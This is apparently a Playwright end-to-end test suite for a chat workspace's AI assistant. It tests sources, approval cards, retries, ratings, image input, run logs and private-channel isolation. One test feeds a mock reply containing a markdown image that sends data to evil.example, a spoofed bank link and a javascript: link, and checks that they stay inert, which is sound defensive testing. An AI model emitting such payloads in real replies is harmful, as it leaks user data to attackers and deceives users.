import type { Locator } from '@playwright/test';
import { startOpenAiServer } from '@parley/assistant/testing';
import { expectAccessible } from '../src/accessible.ts';
import { type Answers, answersOf } from '../src/answers.ts';
import { twoColleagues } from '../src/colleagues.ts';
import { expect, test } from '../src/fixtures.ts';
import { go } from '../src/go.ts';
import type { Person } from '../src/person.ts';
import type { Product } from '../src/product.ts';
import { useModel } from '../src/provider.ts';

/** A red dot, the smallest valid image. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC',
  'base64',
);
const PHONE = { width: 360, height: 740 };
const DESKTOP = { width: 1280, height: 800 };

let product: Product;
let model: Awaited<ReturnType<typeof startOpenAiServer>>;
let answers: Answers;
let ada: Person;
let bo: Person;

test.describe.configure({ mode: 'serial' });
test.beforeAll(async ({ browser, product: running }) => {
  product = running;
  model = await startOpenAiServer();
  answers = answersOf(model);
  const channels = ['Suppliers', 'Crane refit'];
  const colleagues = await twoColleagues(browser, product, { channels });
  ({ ada, bo } = colleagues);
  await useModel(colleagues.workspace, model.url, 'test-vision');
});
test.afterAll(() => model.close());

const card = (person: Person, name: string | RegExp): Locator =>
  person.conversation.getByRole('group', { name });
/** The requests that the model received for a question, including tool results. */
const sentFor = (question: string): string =>
  JSON.stringify(
    model.requests.filter(({ messages }) =>
      JSON.stringify(messages.findLast(({ role }) => role === 'user')).includes(question),
    ),
  );

test('the assistant’s sources are folded above its answer and open the exact message, for both users', async () => {
  await bo.write('The gearbox from Malmö is two weeks late');
  await ada.sees('The gearbox from Malmö is two weeks late');
  answers.set(
    'How late is the gearbox?',
    { call: [{ name: 'search', input: { words: 'gearbox Malmö' } }] },
    { say: ['Two weeks, ', 'by what Bo wrote.'] },
  );
  await ada.write('How late is the gearbox?');
  for (const person of [ada, bo]) {
    await person.sees('Two weeks, by what Bo wrote.');
    const reply = person.message('Two weeks, by what Bo wrote.');
    const fold = reply.getByRole('button', { name: 'Looked something up' });
    await expect(fold).toHaveAttribute('aria-expanded', 'false');
    await fold.focus();
    await person.page.keyboard.press('Enter');
    await expect(fold).toHaveAttribute('aria-expanded', 'true');
    await expect(reply.getByText('gearbox Malmö', { exact: true })).toBeVisible();
    await expect(reply.getByRole('list', { name: 'Sources' }).getByRole('link')).not.toHaveCount(0);
  }
  expect(sentFor('How late is the gearbox?')).toContain('The gearbox from Malmö is two weeks late');
  await expectAccessible(ada.page, 'a reply with its looks');
  await ada
    .message('Two weeks, by what Bo wrote.')
    .getByRole('link', { name: /gearbox from Malmö/ })
    .first()
    .click();
  await expect(ada.page).toHaveURL(/\/channels\/.*[?&]m=/);
  await ada
    .message('Two weeks, by what Bo wrote.')
    .getByRole('button', { name: 'Why this reply' })
    .click();
  const why = ada.page.getByRole('dialog', { name: 'Why this reply' });
  await expect(why).toContainText('test-vision');
  await expect(why).toContainText('Ada Lovelace');
  await expect(why).toContainText('Search');
  await expectAccessible(ada.page, 'why this reply');
  await ada.page.keyboard.press('Escape');
});

test('a message for another channel is sent only after its requester approves it', async () => {
  answers.set(
    'Tell the suppliers',
    {
      call: [
        { name: 'draft_message', input: { channel: 'Suppliers', text: 'The gearbox is late.' } },
      ],
    },
    { say: ['Shall I say this?'] },
  );
  await ada.write('Tell the suppliers, please');
  for (const person of [ada, bo])
    await expect(card(person, 'Message to #Suppliers')).toContainText('The gearbox is late.');
  await expect(card(bo, 'Message to #Suppliers')).toContainText('Needs approval from Ada Lovelace');
  await expect(card(bo, 'Message to #Suppliers').getByRole('button')).toHaveCount(0);
  await expectAccessible(ada.page, 'a proposal');
  await card(ada, 'Message to #Suppliers').getByRole('button', { name: 'Edit first' }).click();
  await ada.page.getByRole('dialog').getByLabel('Text').fill('The gearbox is **two weeks** late.');
  await expectAccessible(ada.page, 'a proposal in a form');
  await ada.page.getByRole('dialog').getByRole('button', { name: 'Send' }).click();
  for (const person of [ada, bo])
    await expect(
      card(person, 'Message to #Suppliers').getByRole('link', { name: 'Open the message' }),
    ).toBeVisible();
  await expect(card(bo, 'Message to #Suppliers')).toContainText('Approved by Ada Lovelace');
  await card(ada, 'Message to #Suppliers').getByRole('link', { name: 'Open the message' }).click();
  await ada.sees('The gearbox is two weeks late.');
  await expect(ada.message('The gearbox is two weeks late.')).toContainText('Ada Lovelace');
  await ada.openChannel('Crane refit');
});

test('a proposed risk or event is created on approval and not on rejection', async () => {
  answers.set(
    'Raise and plan',
    {
      call: [
        {
          name: 'draft_risk',
          input: {
            title: 'Gearbox slips past the survey',
            likelihood: 4,
            impact: 4,
            category: 'Supply',
          },
        },
        {
          name: 'draft_event',
          input: { title: 'Survey, moved', starts_at: '2031-11-26T09:00:00Z' },
        },
        {
          name: 'draft_event',
          input: { title: 'Second survey', starts_at: '2031-11-27T09:00:00Z' },
        },
      ],
    },
    { say: ['Three things wait for you.'] },
  );
  await ada.write('Raise and plan what is needed');
  const surveys = card(ada, 'Event in #Crane refit');
  await expect(card(ada, 'Risk in #Crane refit')).toContainText('16');
  await expect(surveys).toHaveCount(2);
  await card(ada, 'Risk in #Crane refit').getByRole('button', { name: 'Add to register' }).click();
  await surveys
    .filter({ hasText: 'Survey, moved' })
    .getByRole('button', { name: 'Add to schedule' })
    .click();
  await surveys
    .filter({ hasText: 'Second survey' })
    .getByRole('button', { name: 'Decline' })
    .click();
  await expect(surveys.filter({ hasText: 'Second survey' })).toContainText('You declined');
  await expect(
    card(bo, 'Event in #Crane refit').filter({ hasText: 'Second survey' }),
  ).toContainText('Ada Lovelace declined');
  await surveys
    .filter({ hasText: 'Survey, moved' })
    .getByRole('link', { name: 'Open the event' })
    .click();
  await expect(ada.page.getByText('Survey, moved').first()).toBeVisible();
  await ada.page.goBack();
  await card(ada, 'Risk in #Crane refit').getByRole('link', { name: 'Open the risk' }).click();
  await expect(
    ada.page.getByRole('heading', { name: 'Gearbox slips past the survey' }),
  ).toBeVisible();
  await ada.openChannel('Crane refit');
});

test('an answer is stopped midway and requested again', async () => {
  answers.set('Tell me everything', {
    say: Array.from({ length: 200 }, (_, index) => `word ${index} `),
    pauseMs: 100,
  });
  await bo.write('Tell me everything');
  await expect(bo.message('word 3')).toHaveCount(1);
  await bo.page.getByRole('button', { name: 'Stop', exact: true }).click();
  // The note appears below the last word of the answer.
  for (const person of [ada, bo])
    await expect(person.message('word 3').getByText('Stopped', { exact: true })).toBeVisible();
  await expect(ada.conversation.getByRole('button', { name: 'Try again' })).toHaveCount(0);
  answers.set('Tell me everything', { say: ['Everything, ', 'in short.'] });
  await bo.conversation.getByRole('button', { name: 'Try again' }).click();
  for (const person of [ada, bo]) await person.sees('Everything, in short.');
  await expect(bo.conversation.getByText('Stopped', { exact: true })).toHaveCount(0);
});

test('a failure shows its reason, and a retry gets an answer', async () => {
  answers.set('And the crane?', { status: 401 });
  await bo.write('@Assistant And the crane?');
  for (const person of [ada, bo])
    await expect(
      person.conversation.getByText('The provider doesn’t accept the API key.'),
    ).toBeVisible();
  answers.set('And the crane?', { say: ['The crane is ready.'] });
  await bo.conversation.getByRole('button', { name: 'Try again' }).click();
  for (const person of [ada, bo]) await person.sees('The crane is ready.');
});

test('an edited question is asked again, and its answer is rewritten in place', async () => {
  answers.set('the survey in winter', { say: ['In December.'] });
  answers.set('the survey in summer', { say: ['In June.'] });
  await ada.write('When is the survey in winter?');
  await bo.sees('In December.');
  await ada.act('When is the survey in winter?', 'Edit');
  const text = ada.conversation.getByRole('textbox', { name: 'Edit message' });
  await text.fill('When is the survey in summer?');
  await text.press('Enter');
  await bo.sees('When is the survey in summer?');
  await expect(bo.conversation.getByRole('button', { name: 'Ask again' })).toHaveCount(0);
  await ada.message('In December.').getByRole('button', { name: 'Ask again' }).click();
  for (const person of [ada, bo]) {
    await person.sees('In June.');
    await expect(person.message('In December.')).toHaveCount(0);
  }
  answers.set('the survey in summer', { say: ['In July, after all.'] });
  await ada.act('In June.', 'Answer again');
  await bo.sees('In July, after all.');
});

test('a rating of an answer and its note are stored and can be changed', async () => {
  const reply = ada.message('In July, after all.');
  await reply.getByRole('button', { name: 'Good answer' }).click();
  await expect(reply.getByRole('button', { name: 'Good answer' })).toHaveAttribute(
    'aria-pressed',
    'true',
  );
  await reply.getByRole('button', { name: 'Bad answer' }).click();
  await expect(reply.getByRole('button', { name: 'Good answer' })).toHaveAttribute(
    'aria-pressed',
    'false',
  );
  await reply.getByRole('button', { name: 'Say why' }).click();
  await ada.page.getByLabel('What was wrong? (optional)').fill('It was June before.');
  await expectAccessible(ada.page, 'a note on an answer');
  await ada.page.getByRole('button', { name: 'Save note' }).click();
  await expect(reply.getByRole('button', { name: 'Your note' })).toBeVisible();
  await ada.page.reload();
  await expect(reply.getByRole('button', { name: 'Bad answer' })).toHaveAttribute(
    'aria-pressed',
    'true',
  );
  await reply.getByRole('button', { name: 'Your note' }).click();
  await expect(ada.page.getByLabel('What was wrong? (optional)')).toHaveValue(
    'It was June before.',
  );
  await ada.page.keyboard.press('Escape');
  await expect(
    bo.message('In July, after all.').getByRole('button', { name: 'Bad answer' }),
  ).toHaveAttribute('aria-pressed', 'false');
});

test('a picture is passed to a model with vision', async () => {
  answers.set('What is on this picture?', { say: ['A red dot.'] });
  await ada.page
    .locator('input[type=file]')
    .setInputFiles([{ name: 'dot.png', mimeType: 'image/png', buffer: PNG }]);
  await expect(ada.page.getByRole('list', { name: 'Files' }).getByRole('listitem')).toHaveCount(1);
  await expect(ada.page.getByRole('progressbar')).toHaveCount(0);
  await ada.write('What is on this picture?');
  await bo.sees('A red dot.');
  expect(sentFor('What is on this picture?')).toMatch(
    /"image_url":\{"url":"data:image\/(png|webp|jpeg);base64,/,
  );
});

test('a picture or link in an answer is never fetched and shows its target', async () => {
  const asked: string[] = [];
  const note = (request: { url(): string }) => asked.push(request.url());
  for (const { page } of [ada, bo]) page.on('request', note);
  answers.set('Show me the chart', {
    say: [
      'Here: ![chart](https://evil.example/p.png?d=secret) and ' +
        '[https://bank.example](https://evil.example/x) and [run](javascript:alert(1))',
    ],
  });
  await ada.write('Show me the chart');
  for (const person of [ada, bo]) {
    await person.sees('Here: ');
    const reply = person.message('Here: ');
    await expect(reply.getByRole('img', { name: 'chart' })).toHaveCount(0);
    await expect(reply).toContainText('evil.example');
    for (const href of await reply
      .getByRole('link')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? '')))
      expect(href).not.toMatch(/^(?:javascript|data):/);
  }
  for (const { page } of [ada, bo]) page.off('request', note);
  expect(
    asked.filter((url) => url.includes('evil.example') || url.includes('bank.example')),
  ).toEqual([]);
});

test('a channel’s managers read in its log the answers and the reasons for silence', async () => {
  answers.set('Only thinking aloud', { say: ['<silence> Small talk.'] });
  await bo.write('Only thinking aloud');
  await ada.sees('Only thinking aloud');
  await ada.waitForAssistant();
  await ada.page.getByRole('button', { name: 'Answers when useful' }).click();
  await ada.page.getByRole('menuitem', { name: 'Run log' }).click();
  const log = ada.page.getByRole('dialog', { name: 'Run log' });
  await expect(log.getByRole('listitem').filter({ hasText: 'Small talk.' })).toHaveCount(1);
  await expectAccessible(ada.page, 'run log');
  await log.getByRole('button', { name: /All runs/ }).click();
  await ada.page.getByRole('option', { name: 'Silent' }).click();
  await expect(log.getByRole('listitem').filter({ hasText: 'Answered' })).toHaveCount(0);
  await log.getByRole('listitem').filter({ hasText: 'Small talk.' }).getByRole('button').click();
  await expect(log.getByText('Stayed silent', { exact: true }).last()).toBeVisible();
  await log.getByRole('link', { name: 'Open the question' }).click();
  await expect(log).toHaveCount(0);
  await expect(ada.page).toHaveURL(/m=/);
});

test('the assistant finds a user’s private content in private, but not in a channel', async () => {
  await ada.page.getByRole('link', { name: 'New channel' }).first().click();
  await ada.page.getByLabel('Channel name').fill('Board papers');
  await ada.page.getByRole('button', { name: /^Visibility|Open to the workspace/ }).click();
  await ada.page.getByRole('option', { name: 'Private, by invitation' }).click();
  await ada.page.getByRole('button', { name: 'Create channel' }).click();
  await expect(ada.page.getByRole('heading', { name: 'Board papers', exact: true })).toBeVisible();
  await ada.write('The yard is sold for eleven million');
  await ada.sees('The yard is sold');
  await ada.waitForAssistant();
  const search = { call: [{ name: 'search', input: { words: 'yard sold' } }] };
  answers.set('For what is the yard going?', search, { say: ['Eleven million.'] });
  answers.set('And what does the yard go for?', search, { say: ['I found nothing.'] });

  await go(ada.page, `${product.url}/chat`);
  await ada.page.getByRole('button', { name: 'Ask the assistant' }).click();
  await expect(ada.page.getByRole('heading', { name: 'Ask about anything here' })).toBeVisible();
  await expectAccessible(ada.page, 'first screen with the assistant');
  await ada.page.setViewportSize(PHONE);
  await expectAccessible(ada.page, 'first screen with the assistant on a phone');
  await ada.page.setViewportSize(DESKTOP);
  answers.set('What happened while I was away?', { say: ['Nothing new.'] });
  await ada.page.getByRole('button', { name: 'What happened while I was away?' }).click();
  await ada.sees('Nothing new.');
  await ada.write('For what is the yard going?');
  await ada.sees('Eleven million.');
  expect(sentFor('For what is the yard going?')).toContain('sold for eleven million');
  await ada.message('Eleven million.').getByRole('button', { name: 'Looked something up' }).click();
  await expect(
    ada
      .message('Eleven million.')
      .getByRole('link', { name: /yard is sold/ })
      .first(),
  ).toBeVisible();

  await ada.openChannel('Crane refit');
  await ada.write('And what does the yard go for?');
  for (const person of [ada, bo]) await person.sees('I found nothing.');
  expect(sentFor('And what does the yard go for?')).not.toContain('eleven million');
});

test('replies, proposals and sources fit on a phone', async () => {
  await ada.page.setViewportSize(PHONE);
  answers.set(
    'Once more for the phone',
    {
      call: [
        { name: 'find_risks', input: {} },
        {
          name: 'draft_message',
          input: {
            channel: 'Suppliers',
            text: `Address: https://supplier.example/${'a'.repeat(120)}`,
          },
        },
      ],
    },
    { say: ['It all fits.'] },
  );
  await ada.write('Once more for the phone');
  await ada.sees('It all fits.');
  await ada.message('It all fits.').getByRole('button', { name: 'Looked up 2 things' }).click();
  await expect(card(ada, 'Message to #Suppliers').last()).toBeVisible();
  await expectAccessible(ada.page, 'a reply on a phone');
  await ada.page.setViewportSize(DESKTOP);
});
